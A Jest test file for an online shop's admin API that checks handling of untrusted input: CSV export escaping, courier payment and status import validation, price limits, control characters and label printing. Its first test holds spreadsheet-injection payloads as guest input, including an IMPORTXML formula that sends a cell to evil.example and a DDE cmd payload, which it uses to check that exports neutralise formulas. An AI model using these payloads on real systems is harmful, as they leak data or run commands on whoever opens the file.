import { parse } from 'csv-parse/sync';
import { pdfText } from './support/pdf-text';
import { SOLD_AS_ONE, TestShop } from './support/test-shop';

/**
 * Text and numbers people type, as they travel on: guests' words into the CSV files a merchant opens in a
 * spreadsheet, rows of couriers' files into orders and payments, prices into carts, addresses onto labels.
 * Each is checked by the rules of the form it would come through, or made harmless where it is written.
 */
describe('Untrusted input: CSV cells, imported rows, price bounds, control characters, label text', () => {
  let shop: TestShop;
  let admin: string;
  let productId: string;

  beforeAll(async () => {
    shop = await TestShop.start({}, { COURIER_TRACKING_MINUTES: '0' });
    admin = await shop.login('admin@volt.demo', 'admin123');
    const product = await shop.products.findOne({ stockQuantity: { $gte: 40 }, ...SOLD_AS_ONE }).lean();
    productId = String(product!._id);
  });
  afterAll(() => shop.stop());

  const today = () => new Date().toISOString().slice(0, 10);
  let phoneCounter = 0;
  const nextPhone = () => `0301${String(2_000_000 + ++phoneCounter * 13).padStart(7, '0')}`;

  /** A confirmed guest order, as the admin sees it. */
  async function placeOrder(to: { name?: string; address?: string; city?: string; notes?: string } = {}) {
    const placed = await shop.post('/api/v1/orders', {
      items: [{ product: productId, quantity: 1 }],
      shippingAddress: {
        name: to.name ?? 'Ayesha Khan',
        phone: nextPhone(),
        address: to.address ?? 'House 12, Street 4, Gulberg III',
        city: to.city ?? 'Lahore',
      },
      paymentMethod: 'COD',
      ...(to.notes ? { notes: to.notes } : {}),
    });
    expect([placed.status, placed.body.message]).toEqual([201, placed.body.message]);
    const order = placed.body.data as { _id: string; orderNumber: string; totalAmount: number };
    await shop.confirmOrder(order._id, admin);
    return order;
  }

  /** Shipped by hand with TCS under `trackingNumber`. */
  async function shipped(trackingNumber: string) {
    const order = await placeOrder();
    const ship = await shop.post(
      `/api/v1/admin/orders/${order._id}/ship`,
      { courier: 'tcs', trackingNumber },
      { token: admin },
    );
    expect([ship.status, ship.body.message]).toEqual([200, ship.body.message]);
    return order;
  }

  /** Shipped with TCS and delivered today through the status file: its cash is owed by TCS. */
  async function delivered(trackingNumber: string) {
    const order = await shipped(trackingNumber);
    const report = await shop.post(
      '/api/v1/admin/orders/status-import',
      { csv: `Tracking Number,Status,Date\n${trackingNumber},Delivered,${today()}\n` },
      { token: admin },
    );
    expect(report.body.data.outcomes[0]).toMatchObject({ result: 'ok' });
    return order;
  }

  const orderOf = async (id: string) => (await shop.get(`/api/v1/admin/orders/${id}`, { token: admin })).body.data;

  async function exportCsv(orderIds: string[], layout: 'plain' | 'postex') {
    const response = await fetch(`${shop.baseUrl}/api/v1/admin/orders/export.csv`, {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ orderIds, layout }),
    });
    expect(response.status).toBe(200);
    return parse(await response.text(), { columns: true, bom: true }) as Array<Record<string, string>>;
  }

  test('CSV exports: a cell a guest typed that starts like a formula is written as text; amounts stay numbers', async () => {
    const typed = {
      name: '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
      address: "+cmd|' /C calc'!A0, House 1",
      city: '@SUM(1+1)',
      notes: '-2+3 call before coming',
    };
    const order = await placeOrder(typed);
    const plain = (await exportCsv([order._id], 'plain'))[0];
    expect(plain).toMatchObject({
      Name: `'${typed.name}`,
      Address: `'${typed.address}`,
      City: `'${typed.city}`,
      'COD Amount': String(order.totalAmount),
      'Order Number': order.orderNumber,
    });
    const postex = (await exportCsv([order._id], 'postex'))[0];
    expect(postex).toMatchObject({
      'Customer Name': `'${typed.name}`,
      'Delivery Address': `'${typed.address}`,
      'City Name': `'${typed.city}`,
      'Transaction Notes': `'${typed.notes}`,
      'Invoice Payment': String(order.totalAmount),
      Items: '1',
    });
    // Every text cell of both files: none starts with a character a spreadsheet would run.
    for (const row of [plain, postex]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('payment CSV import: a row the payment form would refuse is reported with its message, and nothing of it is written', async () => {
    const orders = [await delivered('TCS-P-1'), await delivered('TCS-P-2'), await delivered('TCS-P-3')];
    const payments = shop.model<{ reference: string }>('CourierPaymentRecord');
    const file = [
      'Payment Reference,Payment Date,Tracking Number,COD Amount,Charges,Net Amount',
      `TCS-NEG,${today()},TCS-P-1,${orders[0].totalAmount},0,"-99,999,999"`,
      `TCS-CHG,${today()},TCS-P-2,${orders[1].totalAmount},"-5,000",${orders[1].totalAmount}`,
      `TCS-OLD,1970-01-01,TCS-P-3,${orders[2].totalAmount},0,${orders[2].totalAmount}`,
      `TCS-NEXT,2999-01-01,TCS-P-3,${orders[2].totalAmount},0,${orders[2].totalAmount}`,
    ].join('\n');
    const rest = await shop.post('/api/v1/admin/remittances/import', { courier: 'tcs', csv: file }, { token: admin });
    expect(rest.status).toBe(200);
    expect(rest.body.data.payments).toEqual([]);
    expect(
      rest.body.data.rows.map((r: { row: number; result: string; message: string }) => [r.row, r.result, r.message]),
    ).toEqual([
      [1, 'failed', 'amount must be 0 or more'],
      [2, 'failed', 'charges must be 0 or more'],
      [3, 'failed', 'date must be in 2000 or later'],
      [4, 'failed', 'date must not be in the future'],
    ]);
    // The form says the same about the same values.
    const form = await shop.post(
      '/api/v1/admin/remittances',
      { courier: 'tcs', date: today(), reference: 'TCS-FORM', amount: -99_999_999, orderIds: [orders[0]._id] },
      { token: admin },
    );
    expect([form.status, form.body.message]).toEqual([400, 'amount must be 0 or more']);

    const graph = await shop.graphql(
      'mutation($csv: String!) { importCourierPayments(input: { courier: "tcs", csv: $csv }) { payments { reference } rows { row result message } } }',
      {
        csv: [
          'Payment Reference,Payment Date,Tracking Number,Charges,Net Amount',
          `TCS-BIG,${today()},TCS-P-1,0,1e20`,
          `TCS-TXT,${today()},TCS-P-2,lots,100`,
        ].join('\n'),
      },
      admin,
    );
    expect(graph.errors).toBeUndefined();
    expect(graph.data.importCourierPayments).toEqual({
      payments: [],
      rows: [
        { row: 1, result: 'failed', message: 'amount must not exceed Rs. 100,000,000' },
        { row: 2, result: 'failed', message: 'charges must be a number' },
      ],
    });
    expect(await payments.countDocuments({ reference: /^TCS-/ })).toBe(0);
    for (const order of orders) expect((await orderOf(order._id)).shipment.paymentId).toBeUndefined();

    // A good row still lands (the checks are not refusing everything).
    const good = await shop.post(
      '/api/v1/admin/remittances/import',
      {
        courier: 'tcs',
        csv: `Payment Reference,Payment Date,Tracking Number,Charges,Net Amount\nTCS-OK,${today()},TCS-P-1,100,${orders[0].totalAmount - 100}\n`,
      },
      { token: admin },
    );
    expect(good.body.data.rows).toEqual([expect.objectContaining({ result: 'ok' })]);
    expect(good.body.data.payments).toEqual([expect.objectContaining({ reference: 'TCS-OK', flagged: false })]);
  });

  test('status CSV import: a delivery date before the order was placed or in the future is refused per row, the order left Shipped', async () => {
    const a = await shipped('TCS-S-1');
    const b = await shipped('TCS-S-2');
    const rest = await shop.post(
      '/api/v1/admin/orders/status-import',
      {
        csv: 'Tracking Number,Status,Date\nTCS-S-1,Delivered,1970-01-01\nTCS-S-2,Returned,2999-12-31\nTCS-S-2,Delivered,soon\n',
      },
      { token: admin },
    );
    expect(rest.status).toBe(200);
    expect(
      rest.body.data.outcomes.map((o: { row: number; result: string; message: string }) => [
        o.row,
        o.result,
        o.message,
      ]),
    ).toEqual([
      [1, 'failed', 'The date is before the order was placed'],
      [2, 'failed', 'The date is in the future'],
      [3, 'failed', 'The date is not a date (YYYY-MM-DD)'],
    ]);
    const graph = await shop.graphql(
      'mutation($csv: String!) { importCourierStatuses(input: { csv: $csv }) { ok failed outcomes { row result message } } }',
      { csv: 'Order Number,Status,Date\n' + `${b.orderNumber},Delivered,1999-06-01\n` },
      admin,
    );
    expect(graph.data.importCourierStatuses).toEqual({
      ok: 0,
      failed: 1,
      outcomes: [{ row: 1, result: 'failed', message: 'The date is before the order was placed' }],
    });
    for (const order of [a, b]) {
      const stored = await orderOf(order._id);
      expect([stored.status, Boolean(stored.shipment.deliveredAt), Boolean(stored.shipment.returnedAt)]).toEqual([
        'Shipped',
        false,
        false,
      ]);
    }
    // Today's date is taken.
    const good = await shop.post(
      '/api/v1/admin/orders/status-import',
      { csv: `Tracking Number,Status,Date\nTCS-S-1,Delivered,${today()}\n` },
      { token: admin },
    );
    expect(good.body.data.outcomes[0]).toMatchObject({ result: 'ok', message: 'Marked Delivered' });
  });

  test('product prices are bounded in the admin form, REST and GraphQL, with a clear message', async () => {
    // Products of their own, so that the orders of the other tests never meet these prices.
    const record = (await shop.products.findOne({ _id: { $ne: productId }, ...SOLD_AS_ONE }).lean())!;
    const id = String(record._id);
    const form = {
      name: record.name,
      description: record.description,
      category: record.category,
      brand: record.brand,
      stockQuantity: record.stockQuantity,
    };
    for (const [input, message] of [
      [{ ...form, price: 1e20 }, 'Price must not exceed Rs. 10,000,000'],
      [{ ...form, price: 10_000_001 }, 'Price must not exceed Rs. 10,000,000'],
      [{ ...form, price: 1e21, discountPrice: 1e20 }, 'Price must not exceed Rs. 10,000,000'],
    ] as const) {
      const rest = await shop.put(`/api/v1/admin/products/${id}`, input, { token: admin });
      expect([rest.status, rest.body.message]).toEqual([400, message]);
      const graph = await shop.graphql(
        'mutation($id: ID!, $input: ProductDetailsInput!) { updateProductDetails(id: $id, input: $input) { id } }',
        { id, input },
        admin,
      );
      expect(graph.errors?.[0]).toMatchObject({ message, extensions: { code: 'BAD_USER_INPUT' } });
    }
    const top = await shop.put(`/api/v1/admin/products/${id}`, { ...form, price: 10_000_000 }, { token: admin });
    expect([top.status, top.body.data.price]).toEqual([200, 10_000_000]);
    await shop.products.updateOne(
      { _id: record._id },
      { $set: { price: record.price, finalPrice: record.finalPrice } },
    );
  });

  test('a stored price no total can hold (written around the form): the cart answers 422 and keeps nothing, never a null total', async () => {
    const huge = await shop.products
      .findOne({ _id: { $ne: productId }, stockQuantity: { $gte: 2 }, ...SOLD_AS_ONE })
      .sort({ _id: -1 })
      .lean();
    await shop.products.updateOne(
      { _id: huge!._id },
      { $set: { price: 1e308, finalPrice: 1e308 }, $unset: { discountPrice: '' } },
    );
    const customer = await shop.registerCustomer();
    const added = await shop.post(
      '/api/v1/cart/add',
      { productId: String(huge!._id), quantity: 2 },
      { token: customer.token },
    );
    expect([added.status, added.body.message]).toEqual([
      422,
      'These items add up to more than the shop can take. Please contact us.',
    ]);
    const graph = await shop.graphql(
      'mutation($id: ID!) { addToCart(input: { productId: $id, quantity: 2 }) { totalAmount } }',
      { id: String(huge!._id) },
      customer.token,
    );
    expect(graph.errors?.[0]).toMatchObject({
      message: 'These items add up to more than the shop can take. Please contact us.',
      extensions: { code: 'UNPROCESSABLE_ENTITY' },
    });
    const cart = await shop.get('/api/v1/cart', { token: customer.token });
    expect([cart.status, cart.body.data.items, cart.body.data.totalAmount]).toEqual([200, [], 0]);
  });

  test('C1 control characters (U+0085, U+009B) are refused where control characters are, with the same messages', async () => {
    for (const [field, text, message] of [
      ['name', 'Ali\u0085Khan', 'Please enter a valid name'],
      ['address', 'House 1\u009B31m, Street 2', 'Please enter a valid address'],
      ['city', 'Lahore\u0080', 'Please enter a valid city'],
    ]) {
      const shippingAddress = {
        name: 'Ali Khan',
        phone: nextPhone(),
        address: 'House 1, Street 2',
        city: 'Lahore',
        [field]: text,
      };
      const input = { items: [{ product: productId, quantity: 1 }], shippingAddress, paymentMethod: 'COD' };
      const rest = await shop.post('/api/v1/orders', input);
      expect([field, rest.status, rest.body.message]).toEqual([field, 400, message]);
      const graph = await shop.graphql(
        'mutation($input: PlaceOrderInput!) { placeOrder(input: $input) { order { id } } }',
        { input: { items: input.items, shippingAddress } },
      );
      expect([field, graph.errors?.[0]?.message]).toEqual([field, message]);
    }
    const record = (await shop.products
      .findOne({ _id: { $ne: productId }, ...SOLD_AS_ONE })
      .sort({ _id: -1 })
      .lean())!;
    const form = {
      name: 'Cable\u009B2J',
      description: record.description,
      price: 1000,
      category: record.category,
      brand: record.brand,
      stockQuantity: record.stockQuantity,
    };
    const rest = await shop.put(`/api/v1/admin/products/${String(record._id)}`, form, { token: admin });
    expect([rest.status, rest.body.message]).toEqual([400, 'Product details must not contain control characters']);
    const graph = await shop.graphql(
      'mutation($id: ID!, $input: ProductDetailsInput!) { updateProductDetails(id: $id, input: $input) { id } }',
      { id: String(record._id), input: { ...form, name: record.name, brand: 'Volt\u0085' } },
      admin,
    );
    expect(graph.errors?.[0]?.message).toBe('Product details must not contain control characters');
    expect((await shop.products.findById(record._id).lean())!.name).toBe(record.name);
  });

  test('a 300-character address prints whole on the label and the packing slip, the label on one page', async () => {
    const words = [];
    for (let n = 1; words.join(' ').length < 300; n++) words.push(`Block${n} Lane${n * 7}`);
    const address = words.join(' ').slice(0, 300).trim();
    expect(address.length).toBeGreaterThanOrEqual(295);
    const order = await placeOrder({ address });
    const read = async (path: string, body?: unknown) => {
      const response = await fetch(shop.baseUrl + path, {
        method: body ? 'POST' : 'GET',
        headers: { authorization: `Bearer ${admin}`, ...(body ? { 'content-type': 'application/json' } : {}) },
        body: body ? JSON.stringify(body) : undefined,
      });
      expect(response.headers.get('content-type')).toBe('application/pdf');
      return pdfText(Buffer.from(await response.arrayBuffer()));
    };
    const flat = (text: string) => text.replace(/\s+/g, ' ');
    const label = await read(`/api/v1/admin/orders/${order._id}/label.pdf`);
    expect(label.pages).toBe(1);
    expect(flat(label.text)).toContain(address);
    expect(label.text).not.toMatch(/\.\.\.|\u2026/);
    // What follows the address is all there too, on the same page.
    for (const text of ['City: LAHORE', `Order ${order.orderNumber}`, 'Not booked with a courier yet'])
      expect(label.text).toContain(text);
    const labels = await read('/api/v1/admin/orders/labels', { orderIds: [order._id] });
    expect(flat(labels.text)).toContain(address);
    const slip = await read(`/api/v1/admin/orders/${order._id}/packing-slip.pdf`);
    expect(slip.pages).toBe(1);
    expect(flat(slip.text)).toContain(address);

    // An Urdu address of the same length: set whole (no ellipsis), the label still one page.
    const urdu = 'مکان نمبر 12، گلی 3، محلہ اسلام آباد، لاہور '.repeat(8).slice(0, 300).trim();
    const urduOrder = await placeOrder({ address: urdu });
    const urduLabel = await read(`/api/v1/admin/orders/${urduOrder._id}/label.pdf`);
    expect(urduLabel.pages).toBe(1);
    expect(urduLabel.text).not.toMatch(/\.\.\.|\u2026/);
    expect(urduLabel.text).toContain(`Order ${urduOrder.orderNumber}`);
  }, 120_000);
});
